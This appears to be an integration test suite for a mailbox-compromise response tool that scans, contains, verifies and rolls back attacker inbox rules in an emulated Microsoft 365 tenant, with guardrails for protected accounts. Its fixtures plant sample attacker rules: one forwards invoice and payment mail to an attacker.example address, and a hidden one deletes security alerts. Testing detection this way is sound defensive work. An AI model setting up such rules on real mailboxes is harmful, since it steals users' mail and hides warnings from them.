/**
 * The loop end to end through the library: scan → dry run → cases → contain → verify → nothing left to do →
 * rollback per case and per run (Graph and Exchange paths) → a second compromise of the same user, against the
 * emulated tenant with the real SDKs and the Exchange bridge.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runHits } from "../../src/cli/commands/run.js";
import { scanWith } from "../../src/cli/commands/scan.js";
import { createAuditLog } from "../../src/audit/log.js";
import { actionContext } from "../../src/cli/commands/run.js";
import type { Hit } from "../../src/model/hit.js";
import { applyRollback, previewRollback } from "../../src/runner/rollback.js";
import { SqliteCaseStore } from "../../src/store/sqlite.js";
import { startTestTenant, type TestTenant } from "../helpers/tenant.js";

let t: TestTenant;
let hits: Hit[];

const stateUser = (upn: string) =>
  t.emulator.ctx.state.users.find((u) => u.userPrincipalName.toLowerCase() === upn.toLowerCase())!;
const mailbox = (upn: string) => t.emulator.ctx.state.mailboxes.find((m) => m.userId === stateUser(upn).id)!;
const rule = (upn: string, name: string) => mailbox(upn).rules.find((r) => r.name === name)!;

beforeAll(async () => {
  t = await startTestTenant();
});
afterAll(async () => {
  await t?.close();
});

describe("walking skeleton on the default scenario", () => {
  it("scan finds the attacker's rules and forwarding, pairs Graph and Exchange views, and leaves benign rules alone", async () => {
    const mark = t.mark();
    const r = await scanWith(t.cfg, t.handles);
    hits = r.hits;
    expect(r.errors).toEqual([]);
    expect(t.writes(mark)).toEqual([]);
    const summary = hits.map((h) => [
      h.user.upn,
      h.target.kind === "inboxRule" ? h.target.ruleName : "forwarding",
      h.severity,
    ]);
    expect(summary).toEqual(
      expect.arrayContaining([
        ["AdeleV@contoso.com", "Accounts sync", "high"],
        ["AdeleV@contoso.com", "forwarding", "high"],
        ["MeganB@contoso.com", ".", "high"],
      ]),
    );
    // Benign look-alikes: a newsletter folder rule and a forward to a colleague are not hits.
    expect(hits.some((h) => h.user.upn === "AlexW@contoso.com")).toBe(false);
    expect(hits.some((h) => h.target.kind === "inboxRule" && /falcon/i.test(h.target.ruleName))).toBe(false);
    // The system rule is never a hit.
    expect(hits.some((h) => h.target.kind === "inboxRule" && /junk/i.test(h.target.ruleName))).toBe(false);

    const adele = hits.find((h) => h.target.kind === "inboxRule" && h.target.ruleName === "Accounts sync")!;
    expect(adele.target).toMatchObject({
      ruleIdentity: rule("AdeleV@contoso.com", "Accounts sync").ruleIdentity,
      graphRuleId: rule("AdeleV@contoso.com", "Accounts sync").graphId,
      hidden: false,
    });
    // Every hit validates against the model and has a stable key.
    const again = await scanWith(t.cfg, t.handles);
    expect(again.hits.map((h) => h.hitKey).sort()).toEqual(hits.map((h) => h.hitKey).sort());
  });

  it("a dry run plans every step with the live before → after and writes nothing", async () => {
    const mark = t.mark();
    const out = await runHits(t.cfg, t.handles, hits, "dry-run");
    expect(t.writes(mark)).toEqual([]);
    // One run per user (case) and playbook: Adele's rule and forwarding share one case.
    const users = [...new Set(hits.map((h) => h.user.upn))];
    expect(out.runs.map((r) => r.state)).toEqual(users.map(() => "planned"));
    expect(new Set(out.runs.map((r) => r.user))).toEqual(new Set(users));
    const adeleRun = out.runs.find((r) => r.user === "AdeleV@contoso.com")!;
    expect(adeleRun.steps.filter((s) => s.id === "revoke-sessions")).toHaveLength(1);
    expect(adeleRun.hitKeys).toHaveLength(hits.filter((h) => h.user.upn === "AdeleV@contoso.com").length);
    const fwd = out.runs.find((r) =>
      r.steps.some((s) => s.id === "clear-forwarding" && s.outcome === "planned"),
    )!;
    const step = fwd.steps.find((s) => s.id === "clear-forwarding")!;
    expect(step.before).toMatchObject({ forwardingSmtpAddress: expect.stringMatching(/^smtp:/i) });
    expect(step.after).toEqual({
      forwardingSmtpAddress: null,
      forwardingAddress: null,
      deliverToMailboxAndForward: false,
    });
    expect(step.transport).toBe("exchange");
    expect(rule("AdeleV@contoso.com", "Accounts sync").enabled).toBe(true);
  });

  it("--yes contains each case and verifies by re-reading: one revocation per compromised user", async () => {
    const before = new Date(stateUser("MeganB@contoso.com").signInSessionsValidFromDateTime).getTime();
    const mark = t.mark();
    const out = await runHits(t.cfg, t.handles, hits, "execute", { actionCtx: fastPoll(3) });
    const users = [...new Set(hits.map((h) => h.user.upn))];
    expect(out.runs.map((r) => [r.user, r.state, r.error])).toEqual(users.map((u) => [u, "done", undefined]));
    expect(rule("AdeleV@contoso.com", "Accounts sync").enabled).toBe(false);
    expect(rule("MeganB@contoso.com", ".").enabled).toBe(false);
    expect(mailbox("AdeleV@contoso.com")).toMatchObject({
      forwardingSmtpAddress: null,
      forwardingAddress: null,
      deliverToMailboxAndForward: false,
    });
    expect(
      new Date(stateUser("MeganB@contoso.com").signInSessionsValidFromDateTime).getTime(),
    ).toBeGreaterThanOrEqual(before);
    const writes = t.writes(mark);
    expect(writes.filter((w) => w.face === "graph" && w.method === "PATCH")).toHaveLength(2);
    expect(writes.filter((w) => w.face === "exchange")).toHaveLength(1);
    expect(writes.filter((w) => w.path.includes("revokeSignInSessions"))).toHaveLength(users.length);
    for (const r of out.runs)
      for (const s of r.steps)
        if (s.outcome === "done" || s.outcome === "already-done") expect(s.verified).toBe(true);
    const store = new SqliteCaseStore(t.cfg.store.path);
    try {
      // The dry run recorded its plans as `planned` cases; --yes opened (and closed) one case per user.
      const cases = store.listCases();
      expect(cases.filter((c) => c.status === "planned")).toHaveLength(users.length);
      expect(cases.filter((c) => c.status !== "planned").map((c) => [c.status, c.epoch])).toEqual(
        users.map(() => ["closed", 1]),
      );
      expect(store.verifyChain().ok).toBe(true);
    } finally {
      store.close();
    }
  });

  it("a second --yes run writes nothing: every hit is already contained by its closed case", async () => {
    const mark = t.mark();
    const out = await runHits(t.cfg, t.handles, hits, "execute", { actionCtx: fastPoll(1) });
    expect(t.writes(mark)).toEqual([]);
    expect(out.runs).toEqual([]);
    expect(out.hits.map((h) => h.outcome)).toEqual(hits.map(() => "already-contained"));
  });

  it("rollback of Adele's case restores the rule through Graph and the forwarding, and says revocation cannot be undone", async () => {
    const store = new SqliteCaseStore(t.cfg.store.path);
    try {
      const adele = store.listCases({ status: ["closed"] }).find((c) => c.userUpn === "AdeleV@contoso.com")!;
      const preview = previewRollback(store, { caseId: adele.caseId });
      expect(preview.map((p) => [p.actionId, p.outcome])).toEqual(
        expect.arrayContaining([
          ["inboxRule.disable", "would-restore"],
          ["mailboxForwarding.clear", "would-restore"],
          ["user.revokeSessions", "irreversible"],
        ]),
      );
      const res = await applyRollback(
        {
          store,
          audit: createAuditLog(undefined),
          actionCtx: { ...actionContext(t.cfg, t.handles), ...fastPoll(3) },
          leaseMs: 10_000,
        },
        { caseId: adele.caseId },
      );
      expect(res.map((r) => [r.actionId, r.outcome, r.verified])).toEqual(
        expect.arrayContaining([
          ["inboxRule.disable", "rolled-back", true],
          ["mailboxForwarding.clear", "rolled-back", true],
          ["user.revokeSessions", "irreversible", undefined],
        ]),
      );
      expect(rule("AdeleV@contoso.com", "Accounts sync").enabled).toBe(true);
      expect(mailbox("AdeleV@contoso.com").forwardingSmtpAddress).toMatch(/^smtp:/i);
      expect(mailbox("AdeleV@contoso.com").deliverToMailboxAndForward).toBe(true);
      expect(store.listRuns({ caseId: adele.caseId }).map((r) => r.state)).toEqual(["rolledBack"]);
      const again = await applyRollback(
        {
          store,
          audit: createAuditLog(undefined),
          actionCtx: actionContext(t.cfg, t.handles),
          leaseMs: 10_000,
        },
        { caseId: adele.caseId },
      );
      expect(again.find((r) => r.actionId === "inboxRule.disable")!.outcome).toBe("already-rolled-back");
      expect(store.journal({ caseId: adele.caseId }).map((e) => e.kind)).toEqual(
        expect.arrayContaining(["rollback.intent", "rollback.done", "run.rolled-back", "case.closed"]),
      );
      expect(store.verifyChain().ok).toBe(true);
    } finally {
      store.close();
    }
  });

  it("a second compromise of the same user after the closed case opens a new case and revokes again, saying why", async () => {
    // The attacker comes back a day later (on the tenant's clock) with a new rule in Megan's mailbox.
    t.emulator.ctx.clock.advance(24 * 3600_000);
    const megan = stateUser("MeganB@contoso.com");
    await t.handles.graph.createMessageRule(megan.id, {
      displayName: "..",
      sequence: 9,
      isEnabled: true,
      conditions: { subjectContains: ["invoice", "payment"] },
      actions: {
        forwardTo: [{ emailAddress: { address: "megan.b@attacker.example", name: "Megan" } }],
        markAsRead: true,
        stopProcessingRules: true,
      },
    });
    const scan = await scanWith(t.cfg, t.handles);
    const mh = scan.hits.filter((h) => h.user.upn === "MeganB@contoso.com");
    expect(mh.length).toBeGreaterThanOrEqual(2);
    const mark = t.mark();
    const out = await runHits(t.cfg, t.handles, mh, "execute", { actionCtx: fastPoll(3) });
    expect(out.runs.map((r) => [r.state, r.error])).toEqual([["done", undefined]]);
    expect(out.hits.map((h) => h.outcome)).toEqual(["already-contained"]);
    const writes = t.writes(mark);
    expect(writes.filter((w) => w.path.includes("revokeSignInSessions"))).toHaveLength(1);
    expect(writes.filter((w) => w.method === "PATCH")).toHaveLength(1);
    const store = new SqliteCaseStore(t.cfg.store.path);
    try {
      const cases = store
        .listCases({ status: ["open", "closed"] })
        .filter((c) => c.userUpn === "MeganB@contoso.com");
      expect(cases.map((c) => [c.epoch, c.status])).toEqual([
        [1, "closed"],
        [2, "closed"],
      ]);
      const opened = store.journal({ caseId: cases[1]!.caseId }).find((e) => e.kind === "case.opened")!;
      expect(JSON.stringify(opened.detail)).toContain(`after case ${cases[0]!.caseId} closed`);
    } finally {
      store.close();
    }
  });
});

const fastPoll = (attempts: number) => ({ poll: { attempts, delayMs: 0, sleep: () => Promise.resolve() } });

describe("inbox-rule rollback on the Exchange path (hidden rule) and per run", () => {
  it("disables the hidden rule with Disable-InboxRule, and rollback --run enables it again through Exchange", async () => {
    const g = await startTestTenant();
    try {
      const s = g.emulator.ctx.state;
      const alex = s.users.find((u) => u.userPrincipalName === "AlexW@contoso.com")!;
      const mb = s.mailboxes.find((m) => m.userId === alex.id)!;
      mb.rules.push({
        ruleIdentity: "16752869479666417665",
        graphId: "AQAAAAgmfug=",
        name: "x",
        priority: 7,
        enabled: true,
        hidden: true,
        inError: false,
        conditions: { subjectOrBodyContainsWords: ["password", "security alert"] },
        actions: { deleteMessage: true, markAsRead: true },
        createdBy: "powershell",
      });
      const hidden = mb.rules.at(-1)!;
      const r = await scanWith(g.cfg, g.handles);
      const h = r.hits.filter((x) => x.target.kind === "inboxRule" && x.target.hidden);
      expect(h).toHaveLength(1);
      const out = await runHits(g.cfg, g.handles, h, "execute", { actionCtx: fastPoll(3) });
      expect(out.runs.map((x) => x.state)).toEqual(["done"]);
      const step = out.runs[0]!.steps.find((x) => x.id === "disable-rule")!;
      expect(step).toMatchObject({ transport: "exchange", reversibility: "partly-reversible" });
      expect(hidden.enabled).toBe(false);
      const store = new SqliteCaseStore(g.cfg.store.path);
      try {
        const res = await applyRollback(
          {
            store,
            audit: createAuditLog(undefined),
            actionCtx: { ...actionContext(g.cfg, g.handles), ...fastPoll(3) },
            leaseMs: 10_000,
          },
          { runId: out.runs[0]!.runId },
        );
        expect(res.find((x) => x.actionId === "inboxRule.disable")).toMatchObject({
          outcome: "rolled-back",
          verified: true,
        });
        expect(hidden.enabled).toBe(true);
      } finally {
        store.close();
      }
    } finally {
      await g.close();
    }
  });
});

describe("guardrails", () => {
  it("a protected account's case waits for a human: planned, never executed", async () => {
    const g = await startTestTenant({
      config: (c) => ({
        ...c,
        guardrails: { protectedAccounts: ["meganb@contoso.com"], maxContainmentsPerRun: 25 },
      }),
    });
    try {
      const r = await scanWith(g.cfg, g.handles);
      const megan = r.hits.filter((h) => h.user.upn === "MeganB@contoso.com");
      expect(megan.length).toBeGreaterThan(0);
      const mark = g.mark();
      const out = await runHits(g.cfg, g.handles, megan, "execute");
      expect(out.runs.map((x) => x.state)).toEqual(["waiting"]);
      expect(out.runs[0]!.waiting).toContain("protected account");
      expect(g.writes(mark)).toEqual([]);
      // Still waiting on the next invocation (resumed, still gated): never written unattended.
      const again = await runHits(g.cfg, g.handles, megan, "execute");
      expect(again.runs.map((x) => x.state)).toEqual(["waiting"]);
      expect(g.writes(mark)).toEqual([]);
    } finally {
      await g.close();
    }
  });

  it("a burst of hits cannot exceed the containment budget; the next invocation continues the waiting case", async () => {
    const g = await startTestTenant({
      config: (c) => ({ ...c, guardrails: { protectedAccounts: [], maxContainmentsPerRun: 1 } }),
    });
    try {
      const r = await scanWith(g.cfg, g.handles);
      const users = new Set(r.hits.map((h) => h.user.upn));
      const out = await runHits(g.cfg, g.handles, r.hits, "execute", { actionCtx: fastPoll(3) });
      expect(out.runs.filter((x) => x.state === "done")).toHaveLength(1);
      expect(out.runs.filter((x) => x.state === "waiting")).toHaveLength(users.size - 1);
      expect(out.runs.find((x) => x.state === "waiting")!.waiting).toContain("budget");
      const next = await runHits(g.cfg, g.handles, r.hits, "execute", { actionCtx: fastPoll(3) });
      expect(next.runs.map((x) => x.state)).toEqual(["done"]);
    } finally {
      await g.close();
    }
  });
});
